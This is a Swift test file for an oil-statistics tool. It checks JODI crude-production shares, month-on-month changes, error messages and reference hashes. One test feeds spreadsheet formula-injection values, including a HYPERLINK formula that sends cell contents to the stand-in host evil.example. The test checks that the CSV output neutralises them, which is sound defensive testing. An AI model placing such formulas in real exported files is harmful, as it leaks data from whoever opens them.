import Foundation
import OilStatCore
import OilStatImport
import OilStatReport
import Testing

@testable import OilStatAnalysis

/// The share task straight from a JODI file: shares, month-on-month changes and the reference implementations'
/// bytes.
struct JODIShareTaskTests {
    /// The JODI header line.
    static let jodiHeader =
        "REF_AREA,TIME_PERIOD,ENERGY_PRODUCT,FLOW_BREAKDOWN,UNIT_MEASURE,OBS_VALUE,"
        + "ASSESSMENT_CODE\n"

    /// The path of python3, if it is installed.
    static let python =
        ["/usr/bin/python3", "/usr/local/bin/python3"]
        .first(where: FileManager.default.isExecutableFile(atPath:))
        ?? (ProcessInfo.processInfo.environment["PATH"] ?? "").split(separator: ":").map({ "\($0)/python3" })
        .first(where: FileManager.default.isExecutableFile(atPath:))

    /// The benchmark's small JODI file (`scripts/bench/gen_jodi.py --size small`), made in `folder` and checked
    /// against its published sha256; returns its path.
    static func generateSmallFile(in folder: URL) throws -> String {
        let python = try #require(Self.python)
        let input = folder.appendingPathComponent("small.csv").path
        let process = Process()
        process.executableURL = URL(fileURLWithPath: python)
        process.arguments = [
            AnalysisTestSupport.repository.appendingPathComponent("scripts/bench/gen_jodi.py").path,
            "--size", "small", "-o", input,
        ]
        process.standardOutput = FileHandle.nullDevice
        process.standardError = FileHandle.nullDevice
        try process.run()
        process.waitUntilExit()
        try #require(process.terminationStatus == 0)
        #expect(
            try SHA256Hasher.hex(ofFile: input) == "7465c5c01c3710742f3f41587cc1ef2b979f2fc50adbf2ef9029e3e10184c9da")
        return input
    }

    @Test func realRowsGiveTheReferenceOutput() throws {
        let rows = try JODIShareTask.rows(path: AnalysisTestSupport.importFixture("jodi_openbb_sample.csv"))
        // The reference (scripts/bench/share_oracle.py) on the same rows, `-` dropped as missing.
        #expect(
            String(decoding: JODIShareTask.csv(rows), as: UTF8.self) == """
                country,month,kbd,share_pct,mom_change_kbd,mom_change_pct
                US,2024-01,12553.5806,58.3627,,
                SA,2024-01,8956.0000,41.6373,,
                US,2024-02,13102.0690,59.2503,548.4884,4.3692
                SA,2024-02,9011.0000,40.7497,55.0000,0.6141

                """)
    }

    @Test func gapsMeanNoPreviousMonthAndZeroTotalsGiveNoShare() throws {
        let path = try AnalysisTestSupport.temporaryFile(
            Self.jodiHeader + """
                NA,2024-01,CRUDEOIL,INDPROD,KBD,0.0000,1
                NA,2024-02,CRUDEOIL,INDPROD,KBD,0,1
                NA,2024-04,CRUDEOIL,INDPROD,KBD,5,1
                NA,2024-05,CRUDEOIL,INDPROD,KBD,x,1
                NA,2024-05,CRUDEOIL,INDPROD,KBBL,155,1
                AO,2024-04,CRUDEOIL,INDPROD,KBD,5,1

                """)
        let text = String(decoding: JODIShareTask.csv(try JODIShareTask.rows(path: path)), as: UTF8.self)
        #expect(
            text == """
                country,month,kbd,share_pct,mom_change_kbd,mom_change_pct
                NA,2024-01,0.0000,,,
                NA,2024-02,0.0000,,0.0000,
                AO,2024-04,5.0000,50.0000,,
                NA,2024-04,5.0000,50.0000,,

                """)
    }

    @Test func badNumberInAKeptRowIsAnError() throws {
        let path = try AnalysisTestSupport.temporaryFile(Self.jodiHeader + "SA,2024-01,CRUDEOIL,INDPROD,KBD,abc,1\n")
        let error = #expect(throws: OilStatError.self) { try JODIShareTask.rows(path: path) }
        #expect(
            error?.description
                == "\(path):2: column 6 (OBS_VALUE): \"abc\" is not a number (missing values are -, x, .. or empty)")
    }

    @Test func twoFiguresForOneCountryAndMonthAreAnError() throws {
        let path = try AnalysisTestSupport.temporaryFile(
            Self.jodiHeader + """
                SA,2024-01,CRUDEOIL,INDPROD,KBD,9000,1
                SA,202401,CRUDEOIL,INDPROD,KBD,9001,1

                """)
        let error = #expect(throws: OilStatError.self) { try JODIShareTask.rows(path: path) }
        #expect(error?.description == "\(path): two CRUDEOIL/INDPROD/KBD figures for SA in 2024-01")
    }

    @Test(.enabled(if: Self.python != nil, "python3 is not installed: scripts/bench/gen_jodi.py makes the file"))
    func smallGeneratedFileMatchesThePeersHash() throws {
        let folder = try AnalysisTestSupport.temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let input = try Self.generateSmallFile(in: folder)
        let expected = "14b0d6cfa7b99510b07b0dcd6adecb463134d34a5f443f2fb4ebb839701b91b8"
        for workers in [1, 2, 3] {
            let read = try JODIProductionReader.read(path: input, workers: workers, minimumPartSize: 1 << 20)
            let rows = try JODIShareTask.rows(from: read)
            #expect(rows.count == 1271)
            #expect(SHA256Hasher.hex(of: JODIShareTask.csv(rows)) == expected, "workers: \(workers)")
        }
        let output = folder.appendingPathComponent("shares.csv").path
        #expect(try JODIShareTask.run(input: input, output: output) == 1271)
        #expect(try SHA256Hasher.hex(ofFile: output) == expected)
    }

    @Test func aChangeThatRoundsToZeroHasNoMinusSign() throws {
        // 999.99999 after 1000: −0.00001 kb/d, −0.000001 %; printf gives "-0.0000", every renderer "0.0000".
        let path = try AnalysisTestSupport.temporaryFile(
            Self.jodiHeader + """
                SA,2023-12,CRUDEOIL,INDPROD,KBD,1000,1
                SA,2024-01,CRUDEOIL,INDPROD,KBD,999.99999,1

                """)
        let text = String(decoding: JODIShareTask.csv(try JODIShareTask.rows(path: path)), as: UTF8.self)
        #expect(text.hasSuffix("SA,2024-01,1000.0000,100.0000,0.0000,0.0000\n"))
    }

    @Test func theStreamingCSVIsByteForByteTheRenderersCSV() throws {
        // One encoder: the fast path and CSVRenderer on the share table agree, hostile codes and negative zero too.
        let rows = [
            ShareRow(
                country: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", month: "2024-01", kbd: 600,
                sharePct: 60, momChangeKBD: -0.00001, momChangePct: -0.0),
            ShareRow(country: "a,b\nc", month: "2024-01", kbd: 300, sharePct: 30, momChangeKBD: nil, momChangePct: nil),
            ShareRow(
                country: "x\"y", month: "2024-01", kbd: 100.123456, sharePct: 10, momChangeKBD: -2.5,
                momChangePct: -0.00005),
            ShareRow(
                country: "@SUM(1+1)", month: "2024-01", kbd: 0.78125, sharePct: nil, momChangeKBD: 1e12,
                momChangePct: 0.5),
        ]
        let fast = String(decoding: JODIShareTask.csv(rows), as: UTF8.self)
        let rendered = CSVRenderer().render(ShareRow.reportTable(rows, fileName: "f.csv"))
        #expect(fast == rendered)
        #expect(
            fast.contains(
                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\","
                    + "2024-01,600.0000,60.0000,0.0000,0.0000\n"))
        #expect(fast.contains("\"a,b\nc\",2024-01,300.0000,30.0000,,\n"))
        #expect(fast.contains("'@SUM(1+1),2024-01,0.7812,,1000000000000.0000,0.5000\n"))
    }
}
